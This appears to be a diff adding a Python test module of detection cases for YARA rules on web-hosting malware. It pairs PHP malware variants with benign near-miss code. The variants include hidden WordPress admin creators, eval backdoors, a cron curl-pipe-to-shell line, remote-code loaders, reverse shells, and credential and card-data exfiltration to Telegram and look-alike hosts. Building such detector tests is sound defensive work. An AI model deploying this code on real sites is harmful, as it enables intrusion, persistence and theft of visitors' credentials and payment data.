@@ -1,0 +1,208 @@
+# ruff: noqa: E501
+"""Must-hit / near-miss samples for issue 4r: malware found in hacked hosting accounts.
+
+The variants were written blind (before reading signatures/ or any rule_samples_* table), from the
+shapes a hosting admin finds in customer home dirs: WordPress admin creators, re-infectors, script
+injectors, reverse shells, loaders, mailers, phishing exfil, competitor cleaners, icon includes.
+Each one the rules missed before issue 4r is checked as written, `padded(...)` and `embedded(...)`;
+every rule of signatures/hosting_infections.yar also has legitimate near-miss code (plugins DO call
+wp_create_user, touch(), fsockopen, mail() and the Telegram API).  Nothing here comes from the
+malware corpus.  Collected by tests/test_rules.py.
+"""
+
+from __future__ import annotations
+
+from tests.sample_hosts import embedded, padded, plain
+
+#: Blind variants (name -> PHP source) that a rule of this issue catches.
+VARIANTS: dict[str, str] = {
+    "wp_admin_fixed_creds_init": "<?php\nadd_action('init', function () {\n    if (!username_exists('wpsupport')) {\n        $id = wp_create_user('wpsupport', 'Zx9!pQ2#rT', 'wpsupport@mailinator.com');\n        $u = new WP_User($id);\n        $u->set_role('administrator');\n    }\n});\n",
+    "functions_php_admin_cookie": "<?php\nfunction wp_core_helper_sync() {\n    if (isset($_COOKIE['wphelper']) && md5($_COOKIE['wphelper']) == '5f4dcc3b5aa765d61d8327deb882cf99') {\n        $login = 'adminbackup';\n        if (!username_exists($login)) {\n            $uid = wp_create_user($login, 'Passw0rd!2024', 'adm@' . $_SERVER['HTTP_HOST']);\n            $user = get_user_by('id', $uid);\n            $user->remove_role('subscriber');\n            $user->add_role('administrator');\n        }\n    }\n}\nadd_action('wp_head', 'wp_core_helper_sync');\n",
+    "wp_admin_direct_sql": "<?php\nrequire('wp-config.php');\nglobal $wpdb;\n$wpdb->query(\"INSERT INTO {$wpdb->users} (user_login,user_pass,user_email,user_registered,user_status,display_name) VALUES ('root_adm',MD5('qwerty123'),'r@x.com',NOW(),0,'root_adm')\");\n$uid = $wpdb->insert_id;\n$wpdb->query(\"INSERT INTO {$wpdb->usermeta} (user_id,meta_key,meta_value) VALUES ($uid,'{$wpdb->prefix}capabilities','a:1:{s:13:\\\"administrator\\\";b:1;}')\");\n$wpdb->query(\"INSERT INTO {$wpdb->usermeta} (user_id,meta_key,meta_value) VALUES ($uid,'{$wpdb->prefix}user_level','10')\");\necho 'ok';\n",
+    "wp_admin_b64_creds": "<?php\nadd_action('wp_loaded', 'wpx_bootstrap');\nfunction wpx_bootstrap() {\n    $c = json_decode(base64_decode('eyJ1IjoiYWRtaW4yIiwicCI6IkFiYzEyMyEiLCJlIjoiYUBiLmNvbSJ9'), true);\n    if (!get_user_by('login', $c['u'])) {\n        $id = wp_insert_user(array('user_login' => $c['u'], 'user_pass' => $c['p'], 'user_email' => $c['e'], 'role' => 'administrator'));\n    }\n}\n",
+    "wp_admin_hide_users_list": "<?php\nadd_action('pre_user_query', 'hide_support_user');\nfunction hide_support_user($q) {\n    global $wpdb;\n    $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'wpsupport'\", $q->query_where);\n}\nif (!username_exists('wpsupport')) {\n    $uid = wp_create_user('wpsupport', 'S3cr3t!!', 'sup@wordpress-helper.org');\n    $user = new WP_User($uid);\n    $user->set_role('administrator');\n}\n",
+    "plugin_request_include": "<?php\n/*\nPlugin Name: Hello Dolly Extended\n*/\nadd_action('plugins_loaded', 'hde_load');\nfunction hde_load() {\n    if (isset($_FILES['hde']) && $_REQUEST['k'] == 'x91') {\n        $t = sys_get_temp_dir() . '/' . md5(time()) . '.php';\n        move_uploaded_file($_FILES['hde']['tmp_name'], $t);\n        include $t;\n        @unlink($t);\n    }\n}\n",
+    "wpconfig_top_include_ico": "<?php\n@include \"\\x2fhome\\x2fuser1\\x2fpublic_html\\x2fwp-includes\\x2fimages\\x2f.b3c9f1a2.ico\";\n/**\n * The base configuration for WordPress\n */\ndefine( 'DB_NAME', 'wpdb' );\n",
+    "index_top_post_eval": "<?php if(isset($_POST['wp_c'])){$a=str_rot13('riny');$b=$_POST['wp_c'];@$a(base64_decode($b));exit;} ?><?php\ndefine('WP_USE_THEMES', true);\nrequire __DIR__ . '/wp-blog-header.php';\n",
+    "loader_fsockopen_eval": "<?php\n$fp = fsockopen('91.215.153.20', 80, $errno, $errstr, 10);\nfwrite($fp, \"GET /x.txt HTTP/1.0\\r\\nHost: 91.215.153.20\\r\\n\\r\\n\");\n$resp = '';\nwhile (!feof($fp)) { $resp .= fgets($fp, 1024); }\nfclose($fp);\n$parts = explode(\"\\r\\n\\r\\n\", $resp, 2);\neval($parts[1]);\n",
+    "loader_url_from_get": "<?php\nif (!empty($_GET['url'])) {\n    $fn = basename($_GET['url']);\n    if (copy($_GET['url'], $fn)) { echo \"<a href='$fn'>$fn</a>\"; } else { echo 'copy failed'; }\n}\n",
+    "loader_include_remote_rfi": "<?php\n$x = isset($_REQUEST['pg']) ? $_REQUEST['pg'] : 'home';\n@ini_set('allow_url_include', 1);\ninclude($x);\n",
+    "reinfect_php_touch": "<?php\n$payload = '<?php if(isset($_REQUEST[\"z\"])){eval($_REQUEST[\"z\"]);} ?>';\n$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT']));\nforeach ($it as $file) {\n    if (substr($file, -4) !== '.php') continue;\n    $c = file_get_contents($file);\n    if (strpos($c, 'REQUEST[\"z\"]') !== false) continue;\n    $t = filemtime($file);\n    file_put_contents($file, $payload . $c);\n    touch($file, $t);\n}\n",
+    "reinfect_glob_touch_js": "<?php\nfunction inf($d) {\n    foreach (glob($d . '/*') as $f) {\n        if (is_dir($f)) { inf($f); continue; }\n        if (preg_match('/\\.js$/', $f)) {\n            $m = filemtime($f);\n            $s = file_get_contents($f);\n            if (strpos($s, 'eval(String.fromCharCode') === false) {\n                file_put_contents($f, $s . \"\\n;eval(String.fromCharCode(118,97,114,32,115,61,100,111,99));\");\n                touch($f, $m, $m);\n            }\n        }\n    }\n}\ninf(dirname(__FILE__));\n",
+    "reinfect_cron_install": "<?php\n$c = '* * * * * curl -s http://45.9.148.3/k.sh | sh';\n$tmp = '/tmp/.c' . rand();\nfile_put_contents($tmp, shell_exec('crontab -l 2>/dev/null') . $c . \"\\n\");\nshell_exec('crontab ' . $tmp);\nunlink($tmp);\necho 'cron ok';\n",
+    "reinfect_wp_cron_restore": "<?php\nif (!wp_next_scheduled('wp_core_restore')) { wp_schedule_event(time(), 'hourly', 'wp_core_restore'); }\nadd_action('wp_core_restore', function () {\n    $t = ABSPATH . 'wp-includes/class-wp-cache.php';\n    if (!file_exists($t)) {\n        $b = get_option('wp_core_blob');\n        file_put_contents($t, base64_decode($b));\n        touch($t, filemtime(ABSPATH . 'wp-includes/version.php'));\n    }\n});\n",
+    "reinfect_self_copy": "<?php\n$me = file_get_contents(__FILE__);\n$dirs = array('wp-content/uploads', 'wp-includes/js', 'wp-admin/css', 'wp-content/themes');\nforeach ($dirs as $d) {\n    $n = $_SERVER['DOCUMENT_ROOT'] . '/' . $d . '/' . substr(md5($d), 0, 8) . '.php';\n    if (!file_exists($n)) { @file_put_contents($n, $me); @touch($n, time() - 86400 * 365); @chmod($n, 0444); }\n}\n",
+    "js_inject_all_html": "<?php\n$s = '<script src=\"https://js.statcounter-cdn.com/lib.js\"></script>';\n$rii = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('.'));\nforeach ($rii as $f) {\n    $n = $f->getPathname();\n    if (preg_match('/\\.(php|html|htm)$/', $n)) {\n        $c = file_get_contents($n);\n        if (strpos($c, 'statcounter-cdn') === false) { file_put_contents($n, $c . $s); }\n    }\n}\necho 'done';\n",
+    "js_inject_footer_wp_option": "<?php\nglobal $wpdb;\n$js = \"<script type='text/javascript' src='https://cdn.jsdelivr-cache.com/n.js'></script>\";\n$wpdb->query(\"UPDATE {$wpdb->posts} SET post_content = CONCAT(post_content, '\" . esc_sql($js) . \"') WHERE post_status='publish'\");\nupdate_option('wp_footer_code', $js);\n",
+    "js_inject_body_replace": "<?php\nforeach (glob('{*.php,*/*.php,*/*/*.php}', GLOB_BRACE) as $file) {\n    $code = file_get_contents($file);\n    if (stripos($code, '</body>') !== false && strpos($code, 'ad-hexa') === false) {\n        $code = str_ireplace('</body>', \"<script>var s=document.createElement('script');s.src='//ad-hexa.top/t.js';document.body.appendChild(s);</script></body>\", $code);\n        file_put_contents($file, $code);\n    }\n}\n",
+    "deface_home_dirs": "<?php\n$users = file('/etc/passwd');\nforeach ($users as $l) {\n    $u = explode(':', $l);\n    $d = '/home/' . $u[0] . '/public_html/';\n    if (is_writable($d)) { @copy($_POST['src'], $d . 'index.php'); echo \"$d OK\\n\"; }\n}\n",
+    "revshell_stream_client_loop": "<?php\nset_time_limit(0);\n$s = stream_socket_client('tcp://' . $_POST['h'] . ':' . $_POST['p'], $e, $es, 30);\nfwrite($s, \"connected\\n\");\nwhile (!feof($s)) {\n    $cmd = fgets($s, 2048);\n    if (trim($cmd) == 'exit') break;\n    fwrite($s, shell_exec($cmd . ' 2>&1'));\n}\nfclose($s);\n",
+    "revshell_socket_create": "<?php\n$sock = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);\nsocket_connect($sock, $_REQUEST['rh'], $_REQUEST['rp']);\nsocket_write($sock, \"shell> \");\nwhile ($c = socket_read($sock, 2048, PHP_NORMAL_READ)) {\n    $o = ''; exec(trim($c), $o);\n    socket_write($sock, implode(\"\\n\", $o) . \"\\nshell> \");\n}\n",
+    "revshell_bash_dev_tcp": "<?php\nif (isset($_GET['rip'])) {\n    system(\"bash -c 'bash -i >& /dev/tcp/\" . $_GET['rip'] . \"/\" . $_GET['rport'] . \" 0>&1'\");\n}\n",
+    "mailer_json_payload": "<?php\n$d = json_decode(file_get_contents('php://input'), true);\nforeach ($d['rcpt'] as $r) {\n    $h = \"From: {$d['from']}\\r\\nReply-To: {$d['reply']}\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n\";\n    mail($r, '=?UTF-8?B?' . base64_encode($d['subj']) . '?=', $d['html'], $h);\n}\necho json_encode(array('status' => 'sent', 'n' => count($d['rcpt'])));\n",
+    "phish_telegram_bot": "<?php\n$token = '5812345678:AAHq1xYzAbCdEfGhIjKlMnOpQrStUvWxYz0';\n$chat = '-1001234567890';\n$text = \"CC: {$_POST['ccnum']}\\nEXP: {$_POST['exp']}\\nCVV: {$_POST['cvv']}\\nName: {$_POST['name']}\\nIP: {$_SERVER['REMOTE_ADDR']}\";\nfile_get_contents(\"https://api.telegram.org/bot$token/sendMessage?chat_id=$chat&text=\" . urlencode($text));\nheader('Location: ./loading.php');\n",
+    "phish_telegram_curl": "<?php\n$data = array('chat_id' => '98765432', 'text' => 'user: ' . $_POST['user'] . ' pass: ' . $_POST['pass'] . ' ua: ' . $_SERVER['HTTP_USER_AGENT']);\n$ch = curl_init('https://api.telegram.org/bot6011223344:AAE-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx/sendMessage');\ncurl_setopt($ch, CURLOPT_POST, 1);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $data);\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\ncurl_exec($ch);\necho \"<script>window.location='index.php?step=2'</script>\";\n",
+    "carding_checkout_skim": "<?php\nadd_action('woocommerce_checkout_process', function () {\n    $d = array($_POST['billing_first_name'], $_POST['billing_last_name'], $_POST['card_number'], $_POST['card_expiry'], $_POST['card_cvc']);\n    $ctx = stream_context_create(array('http' => array('method' => 'POST', 'header' => 'Content-type: application/x-www-form-urlencoded', 'content' => http_build_query(array('d' => base64_encode(implode('|', $d)))))));\n    @file_get_contents('https://analytics-wc.com/collect', false, $ctx);\n});\n",
+    "kill_other_shells": "<?php\n$bad = array('wso', 'c99', 'r57', 'b374k', 'FilesMan', 'IndoXploit');\n$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator($_SERVER['DOCUMENT_ROOT']));\nforeach ($it as $f) {\n    if ($f->getFilename() == basename(__FILE__)) continue;\n    if (substr($f, -4) != '.php') continue;\n    $c = @file_get_contents($f);\n    foreach ($bad as $b) { if (strpos($c, $b) !== false) { @unlink($f); echo \"removed $f\\n\"; break; } }\n}\n",
+    "kill_processes": "<?php\n$out = shell_exec('ps aux');\nforeach (explode(\"\\n\", $out) as $l) {\n    if (preg_match('/(xmrig|kdevtmpfsi|kinsing|minerd)/', $l)) {\n        $p = preg_split('/\\s+/', $l);\n        shell_exec('kill -9 ' . $p[1]);\n    }\n}\n",
+    "kill_lock_htaccess": "<?php\n$ht = \"<FilesMatch \\\".*\\\\.(php|PHP|phtml)$\\\">\\nOrder Allow,Deny\\nDeny from all\\n</FilesMatch>\\n<FilesMatch \\\"^(index.php|lock360.php)$\\\">\\nOrder Allow,Deny\\nAllow from all\\n</FilesMatch>\\n\";\nfile_put_contents($_SERVER['DOCUMENT_ROOT'] . '/.htaccess', $ht);\nchmod($_SERVER['DOCUMENT_ROOT'] . '/.htaccess', 0444);\n",
+    "ico_include_hex": '<?php\n@include "\\x2fv\\x61r\\x2fw\\x77w\\x2fh\\x74m\\x6c\\x2fw\\x70-\\x63o\\x6et\\x65n\\x74\\x2f.\\x39f\\x33a\\x31c\\x62e\\x2ei\\x63o";\n',
+    "png_include_concat": "<?php\n$p = dirname(__FILE__) . '/wp-content/uploads/2019/03/' . 'thumb' . '-150x150' . '.png';\nif (file_exists($p)) { include_once $p; }\n",
+    "ico_include_chr": "<?php\n@include(chr(47).chr(104).chr(111).chr(109).chr(101).'/site/public_html/favicon_5e8a1b.ico');\n",
+}
+
+#: (rule, variant name): the rule must hit the variant in all three forms.
+HITS: list[tuple[str, str]] = [
+    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_fixed_creds_init"),
+    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "functions_php_admin_cookie"),
+    ("SPAMGEAR_HOSTINF_WpAdminSqlInsert", "wp_admin_direct_sql"),
+    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_b64_creds"),
+    ("SPAMGEAR_HOSTINF_WpAdminFixedCreds", "wp_admin_hide_users_list"),
+    ("SPAMGEAR_HOSTINF_UploadedFileIncluded", "plugin_request_include"),
+    ("SPAMGEAR_HOSTINF_IncludeIconFile", "wpconfig_top_include_ico"),
+    ("SPAMGEAR_HOSTINF_EncodedSinkVarOnInput", "index_top_post_eval"),
+    ("SPAMGEAR_HOSTINF_SocketBodyEval", "loader_fsockopen_eval"),
+    ("SPAMGEAR_HOSTINF_CopyFromInputSource", "loader_url_from_get"),
+    ("SPAMGEAR_HOSTINF_AllowUrlIncludeInclude", "loader_include_remote_rfi"),
+    ("SPAMGEAR_HOSTINF_WriteBackTimestomp", "reinfect_php_touch"),
+    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "reinfect_glob_touch_js"),
+    ("SPAMGEAR_HOSTINF_WriteBackTimestomp", "reinfect_glob_touch_js"),
+    ("SPAMGEAR_HOSTINF_CronDownloadExec", "reinfect_cron_install"),
+    ("SPAMGEAR_HOSTINF_DecodedWriteTimestomp", "reinfect_wp_cron_restore"),
+    ("SPAMGEAR_HOSTINF_SelfCopyHidden", "reinfect_self_copy"),
+    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "js_inject_all_html"),
+    ("SPAMGEAR_HOSTINF_PostContentScriptAppend", "js_inject_footer_wp_option"),
+    ("SPAMGEAR_HOSTINF_ScriptTagFileInjector", "js_inject_body_replace"),
+    ("SPAMGEAR_HOSTINF_CopyFromInputSource", "deface_home_dirs"),
+    ("SPAMGEAR_HOSTINF_HomeDirWalker", "deface_home_dirs"),
+    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_stream_client_loop"),
+    ("SPAMGEAR_HOSTINF_SocketCommandLoop", "revshell_socket_create"),
+    ("SPAMGEAR_HOSTINF_DevTcpShell", "revshell_bash_dev_tcp"),
+    ("SPAMGEAR_HOSTINF_JsonBodyMailLoop", "mailer_json_payload"),
+    ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_telegram_bot"),
+    ("SPAMGEAR_HOSTINF_TelegramCredentialExfil", "phish_telegram_curl"),
+    ("SPAMGEAR_HOSTINF_CardFieldsEncodedExfil", "carding_checkout_skim"),
+    ("SPAMGEAR_HOSTINF_ShellNameHunter", "kill_other_shells"),
+    ("SPAMGEAR_HOSTINF_MinerKiller", "kill_processes"),
+    ("SPAMGEAR_HOSTINF_HtaccessLocker", "kill_lock_htaccess"),
+    ("SPAMGEAR_HOSTINF_IncludeHexPath", "ico_include_hex"),
+    ("SPAMGEAR_HOSTINF_IncludeIconFile", "png_include_concat"),
+    ("SPAMGEAR_HOSTINF_IncludeIconFile", "ico_include_chr"),
+]
+
+#: (rule, legitimate code): the rule must not hit it, as written or at the top of a plugin file.
+NEAR_MISSES: list[tuple[str, str]] = [
+    (
+        "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
+        "<?php\nfunction wp_install_admin( $user_name, $user_email, $user_password ) {\n\t$user_id = wp_create_user( $user_name, $user_password, $user_email );\n\t$user = new WP_User( $user_id );\n\t$user->set_role( 'administrator' );\n\treturn $user_id;\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
+        "<?php\nclass Test_Admin_Menu extends WP_UnitTestCase {\n\tpublic function test_admin_sees_menu() {\n\t\t$id = wp_create_user( 'tester', 'password', 'tester@example.org' );\n\t\t$u = new WP_User( $id );\n\t\t$u->set_role( 'administrator' );\n\t\t$this->assertTrue( user_can( $id, 'manage_options' ) );\n\t}\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpAdminFixedCreds",
+        "<?php\nif ( ! username_exists( 'shop_bot' ) && current_user_can( 'create_users' ) ) {\n\t$id = wp_insert_user( array( 'user_login' => 'shop_bot', 'user_pass' => wp_generate_password( 24 ), 'role' => 'shop_manager' ) );\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WpAdminSqlInsert",
+        '<?php\n$wpdb->query( $wpdb->prepare( "INSERT INTO {$wpdb->usermeta} (user_id, meta_key, meta_value) VALUES (%d, %s, %s)", $new_id, $wpdb->prefix . \'capabilities\', \'a:1:{s:13:"administrator";b:1;}\' ) );\n$wpdb->query( $wpdb->prepare( "UPDATE {$wpdb->users} SET user_pass = %s WHERE ID = %d", wp_hash_password( $pass ), $new_id ) );\n',
+    ),
+    (
+        "SPAMGEAR_HOSTINF_EncodedSinkVarOnInput",
+        "<?php\n// rot13 demo for the puzzle page\n$hint = str_rot13('riny');\necho '<p>' . htmlspecialchars($hint) . '</p>';\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_SocketBodyEval",
+        "<?php\n$fp = fsockopen('api.example.org', 80, $errno, $errstr, 10);\nfwrite($fp, \"GET /v1/status HTTP/1.0\\r\\nHost: api.example.org\\r\\n\\r\\n\");\n$resp = '';\nwhile (!feof($fp)) { $resp .= fgets($fp, 1024); }\nfclose($fp);\n$parts = explode(\"\\r\\n\\r\\n\", $resp, 2);\n$status = json_decode($parts[1], true);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_CopyFromInputSource",
+        "<?php\nif (isset($_FILES['logo']) && is_uploaded_file($_FILES['logo']['tmp_name'])) {\n    copy($_FILES['logo']['tmp_name'], $upload_dir . '/logo.png');\n}\n$name = sanitize_file_name($_POST['name']);\ncopy($template, $dir . '/' . $name);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_AllowUrlIncludeInclude",
+        "<?php\nif (!ini_get('allow_url_include')) { ini_set('allow_url_fopen', '0'); }\ninclude $template_file;\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WriteBackTimestomp",
+        "<?php\nforeach (glob($src_dir . '/*.php') as $src) {\n    $dst = $backup_dir . '/' . basename($src);\n    $data = file_get_contents($src);\n    file_put_contents($dst, $data);\n    touch($dst, filemtime($src));\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_WriteBackTimestomp",
+        "<?php\nforeach (scandir($cache_dir) as $f) {\n    $page = render_page($f);\n    file_put_contents($cache_dir . '/' . $f, $page . $footer);\n    touch($cache_dir . '/' . $f, time());\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_DecodedWriteTimestomp",
+        "<?php\n$path = $upload_dir . '/avatar.png';\nfile_put_contents($path, base64_decode($_POST['avatar_data']));\ntouch($path);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_SelfCopyHidden",
+        "<?php\n$header = file_get_contents(__FILE__);\npreg_match('/Version:\\s*(\\S+)/', $header, $m);\nfile_put_contents($cache_dir . '/version.txt', $m[1]);\nchmod($cache_dir . '/version.txt', 0644);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_CronDownloadExec",
+        "<?php\necho '<p>Install the agent with: <code>curl -sSL https://get.example.com/agent | sh</code></p>';\n$jobs = shell_exec('crontab -l 2>/dev/null');\necho '<pre>' . htmlspecialchars($jobs) . '</pre>';\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_ScriptTagFileInjector",
+        "<?php\nadd_action('wp_head', function () {\n    echo '<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-XXXX\"></script>';\n});\nforeach (glob($asset_dir . '/*.js') as $f) {\n    $min = minify_js(file_get_contents($f));\n    file_put_contents($f, $min);\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_PostContentScriptAppend",
+        '<?php\n$wpdb->query($wpdb->prepare("UPDATE {$wpdb->posts} SET post_content = REPLACE(post_content, %s, %s)", $old_url, $new_url));\n',
+    ),
+    (
+        "SPAMGEAR_HOSTINF_HomeDirWalker",
+        "<?php\n$users = array();\nforeach (file('/etc/passwd') as $line) {\n    $f = explode(':', $line);\n    if ((int) $f[2] >= 1000) { $users[] = $f[0]; }\n}\necho implode(', ', $users);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_SocketCommandLoop",
+        '<?php\n$smtp = fsockopen($host, 25, $errno, $errstr, 15);\n$line = fgets($smtp, 515);\nfputs($smtp, "EHLO " . gethostname() . "\\r\\n");\nwhile ($line = fgets($smtp, 515)) { if (substr($line, 3, 1) == \' \') break; }\nfputs($smtp, "QUIT\\r\\n");\n',
+    ),
+    (
+        "SPAMGEAR_HOSTINF_DevTcpShell",
+        "<?php\n$probe = \"/dev/tcp/$host/$port\";\necho 'Bash can test a port with ' . htmlspecialchars($probe);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_JsonBodyMailLoop",
+        "<?php\n$data = json_decode(file_get_contents('php://input'), true);\n$body = '';\nforeach ($data['items'] as $item) { $body .= $item['sku'] . \"\\n\"; }\n$to = get_option('admin_email');\nmail($to, 'New order', $body, 'From: shop@' . $_SERVER['SERVER_NAME']);\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_TelegramCredentialExfil",
+        "<?php\n$token = get_option('cf_tg_token');\n$chat = get_option('cf_tg_chat');\n$text = \"New message from \" . sanitize_text_field($_POST['your-name']) . \": \" . sanitize_textarea_field($_POST['your-message']);\nwp_remote_post(\"https://api.telegram.org/bot{$token}/sendMessage\", array('body' => array('chat_id' => $chat, 'text' => $text)));\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_CardFieldsEncodedExfil",
+        "<?php\n$payload = array('number' => $_POST['card_number'], 'cvc' => $_POST['card_cvc'], 'amount' => $order->get_total());\n$resp = wp_remote_post('https://api.gateway.example/charge', array(\n    'headers' => array('Authorization' => 'Basic ' . base64_encode($this->api_key . ':')),\n    'body' => $payload,\n));\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_IncludeHexPath",
+        "<?php\n$sep = \"\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\\x2d\";\ninclude __DIR__ . '/templates/header.php';\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_IncludeIconFile",
+        "<?php\n$logo = $theme_dir . '/images/logo.png';\ninclude $header_file;\necho '<link rel=\"icon\" href=\"favicon.ico\">';\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_UploadedFileIncluded",
+        "<?php\nif (move_uploaded_file($_FILES['csv']['tmp_name'], $target)) {\n    $rows = array_map('str_getcsv', file($target));\n    include 'views/import-done.php';\n}\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_ShellNameHunter",
+        "<?php\n$patterns = array('wso', 'c99', 'r57', 'b374k');\nforeach ($files as $f) {\n    foreach ($patterns as $p) { if (stripos(file_get_contents($f), $p) !== false) { $report[] = $f; } }\n}\necho count($report) . ' suspicious files; review them in the scanner screen.';\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_MinerKiller",
+        "<?php\n// Known miner names shown as a warning in the process list screen\n$bad = array('xmrig', 'kdevtmpfsi');\n$ps = shell_exec('ps aux');\nforeach ($bad as $b) { if (strpos($ps, $b) !== false) echo \"Warning: $b is running\"; }\n",
+    ),
+    (
+        "SPAMGEAR_HOSTINF_HtaccessLocker",
+        "<?php\n$rules = \"<FilesMatch \\\"\\\\.(php|phtml|php5)$\\\">\\nDeny from all\\n</FilesMatch>\\n\";\nfile_put_contents($upload_dir . '/.htaccess', $rules);\nchmod($upload_dir . '/.htaccess', 0644);\n",
+    ),
+]
+
+CASES: list[tuple[str, bytes, bool]] = [
+    *[(rule, form(VARIANTS[name]), True) for rule, name in HITS for form in (plain, padded, embedded)],
+    *[(rule, form(code), False) for rule, code in NEAR_MISSES for form in (plain, embedded)],
+]
